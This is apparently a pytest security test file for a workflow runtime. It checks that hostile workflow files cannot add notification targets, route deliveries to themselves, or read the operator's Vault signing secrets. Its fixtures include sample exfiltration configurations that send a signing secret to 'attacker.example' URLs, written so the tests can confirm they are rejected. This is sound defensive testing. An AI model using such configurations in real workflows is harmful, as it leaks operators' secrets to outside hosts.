"""Hostile workflow files against notifications: a workflow cannot add a notification target, route one to itself,
or read the targets' signing secrets; the signing secret (the canary) is never stored or logged anywhere.

Notification targets are the operator's (notify.yaml beside the workflows, or AGENTRT_NOTIFY_FILE); their secrets
live under the operator's Vault path, read with the worker's own token.
"""

from __future__ import annotations

import asyncio
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.security.harness import Canary
from tests.support.notify_receiver import NotifyReceiver, notify_yaml
from tests.support.runtime import client_for, eventually, pending_task, running_worker, write_workflow
from tests.support.vault_support import uid, write_secret
from tests.worker.e2e.test_cli import agentrt
from worker.boundary import load_checks
from worker.config import Settings
from worker.definitions.loader import load_file
from worker.errors import DefinitionError

BOOM = """
name: boom
steps:
  - {id: pay, uses: http, with: {url: "http://127.0.0.1:1/pay"}, retry: {max_attempts: 1}}
"""


@pytest.mark.parametrize("key", ["notify", "notifications", "targets", "routes"])
async def test_a_workflow_cannot_declare_targets_or_routes(settings: Settings, key: str) -> None:
    path = write_workflow(settings, "sneaky.yaml", f"""
        name: sneaky
        {key}:
          exfil: {{url: "https://attacker.example/hook", secret: oncall}}
        steps:
          - {{id: s, uses: set, with: {{x: 1}}}}
        """)
    with pytest.raises(DefinitionError) as info:
        load_file(path, checks=load_checks(settings))
    assert info.value.location == f"{path}:2:1" and f"unknown key '{key}'" in info.value.reason


async def test_a_workflow_cannot_read_the_signing_secrets(settings: Settings, tmp_path: Path) -> None:
    path = write_workflow(settings, "thief.yaml", """
        name: thief
        credentials:
          loot: {path: agentrt/notify/oncall}
        steps:
          - id: s
            uses: http
            secrets: [loot]
            with: {url: "https://attacker.example/?k=${{ secrets.loot.signing_secret }}"}
        """)
    with pytest.raises(DefinitionError) as info:
        load_file(path, checks=load_checks(settings))
    assert info.value.location == f"{path}:3:16" and "the operator's notification secrets" in info.value.reason
    # and the least-privilege policies never grant it, even if an operator runs `agentrt vault policies` on it
    rc, out, err = await agentrt(settings, "vault", "policies", "--workflows", str(settings.workflows_dir))
    assert rc == 1 and "refused policy agentrt-wf-thief" in err and "agentrt/notify" not in out


async def test_a_notify_yaml_written_by_a_workflow_author_is_not_used(canary: Canary, settings: Settings,
                                                                      vault_server: Any, tmp_path: Path) -> None:
    """With AGENTRT_NOTIFY_FILE outside the workflows directory, a `notify.yaml` dropped among the workflows adds
    no target (it is still reserved: never loaded as a workflow). The signing secret is the canary: deliveries are
    signed with it, and it is in no row, Redis key, log line or request body."""
    tag = uid()
    write_secret(vault_server, f"agentrt/notify/ops-{tag}", {"signing_secret": canary.value})
    with NotifyReceiver(secret=canary.value) as ops, NotifyReceiver() as attacker:
        operator_file = tmp_path / "operator" / "notify.yaml"
        operator_file.parent.mkdir()
        operator_file.write_text(notify_yaml(ops.url, f"ops-{tag}"))
        (settings.workflows_dir / "notify.yaml").write_text(
            f"targets:\n  exfil: {{url: \"{attacker.url}\", secret: ops-{tag}}}\nroutes:\n  - targets: [exfil]\n")
        write_workflow(settings, "boom.yaml", BOOM)
        write_workflow(settings, "gate.yaml", "name: gate\nsteps:\n  - {id: ok, uses: approval, with: {prompt: go?}}\n")
        s = replace(settings, vault_addr=vault_server.addr, vault_token=vault_server.root_token,
                    notify_file=operator_file)
        async with running_worker(s), client_for(s) as client:
            await client.start_run("boom")
            gate = await client.start_run("gate")
            await pending_task(client, gate)
            assert await ops.wait_for_async(lambda r: r.kinds() == {"run.failed", "task.created"}, 20)

            async def delivered() -> bool:
                return {n.status for n in await client.list_notifications()} == {"delivered"}

            await eventually(delivered, 10, what="delivered")
            await asyncio.sleep(1.0)  # time for a wrongly routed delivery to arrive
            targets = {n.target for n in await client.list_notifications()}
            rc, out, err = await agentrt(replace(s, vault_token=None), "notifications", "--json")
    assert rc == 0 and attacker.snapshot() == [] and targets == {"hook"}
    assert all(d.verified for d in ops.snapshot())  # signed with the canary, which never travels itself
    await canary.assert_absent(s, texts={
        "request bodies and headers": "\n".join(f"{d.headers!r} {d.body.decode()}" for d in ops.snapshot()),
        "agentrt notifications": out + err})
